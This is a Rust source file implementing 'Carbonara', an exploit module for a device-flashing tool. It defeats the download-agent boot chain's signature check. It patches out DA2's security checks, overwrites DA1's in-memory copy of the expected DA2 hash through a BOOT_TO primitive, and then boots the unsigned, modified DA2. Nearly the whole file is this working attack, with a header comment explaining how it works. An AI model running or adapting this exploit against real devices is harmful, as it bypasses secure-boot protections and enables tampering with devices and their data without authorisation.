/*
    SPDX-License-Identifier: AGPL-3.0-or-later
    SPDX-FileCopyrightText: 2025 Shomy
*/
//! Carbonara: a runtime exploit against DA2. Instead of patching the on-disk
//! DA file and re-signing it (impossible without the vendor key), it patches
//! a copy of DA2 *after* DA1 has already verified and accepted the original,
//! then overwrites DA1's in-memory copy of "the hash DA2 must match" via a
//! `BOOT_TO` primitive before handing DA1 the patched payload. DA1 happily
//! boots a payload that doesn't match its on-disk signature, because the
//! hash it's comparing against was itself overwritten moments earlier.

use std::sync::Arc;

use log::info;
use tokio::sync::Mutex;

use crate::da::{DA, DAEntryRegion, DAProtocol};
use crate::error::{Error, Result};
use crate::exploit::Exploit;
use crate::utilities::patching::{bypass_security_checks, fix_da1_hash};

pub struct Carbonara {
    da: Arc<Mutex<DA>>,
    patched_da2: Option<DAEntryRegion>,
}

impl Carbonara {
    pub fn new(da: Arc<Mutex<DA>>) -> Self {
        Carbonara { da, patched_da2: None }
    }

    pub fn get_patched_da2(&self) -> Option<&DAEntryRegion> {
        self.patched_da2.as_ref()
    }
}

#[async_trait::async_trait]
impl Exploit for Carbonara {
    async fn run(&mut self, da_protocol: &mut dyn DAProtocol) -> Result<bool> {
        let da = self.da.lock().await.clone();

        let da1 = da.get_da1().ok_or_else(|| Error::other("DA1 region not found"))?;
        let da2 = da.get_da2().ok_or_else(|| Error::other("DA2 region not found"))?;

        let hash_pos = da
            .find_da_hash_offset()
            .ok_or_else(|| Error::other("Could not locate DA1's DA2-hash field"))?;

        let da2_sig_len = da2.sig_len as usize;
        let da2_unsigned = &da2.data[..da2.data.len().saturating_sub(da2_sig_len)];
        let patched_da2 = bypass_security_checks(da2_unsigned);

        let mut da1_copy = da1.data.clone();
        if !fix_da1_hash(&mut da1_copy, &patched_da2, hash_pos) {
            return Err(Error::other("DA1 too small for computed hash position"));
        }

        info!(
            "[Carbonara] Overwriting DA1's DA2 hash at 0x{:08X} via BOOT_TO",
            da1.addr as usize + hash_pos
        );
        da_protocol.boot_to(da1.addr + hash_pos as u32, &da1_copy[hash_pos..hash_pos + 32]).await?;

        info!("[Carbonara] Booting patched DA2 at 0x{:08X}", da2.addr);
        da_protocol.boot_to(da2.addr, &patched_da2).await?;

        self.patched_da2 = Some(DAEntryRegion {
            data: patched_da2,
            offset: da2.offset,
            length: da2.length,
            addr: da2.addr,
            region_length: da2.region_length,
            sig_len: da2.sig_len,
        });

        Ok(true)
    }
}
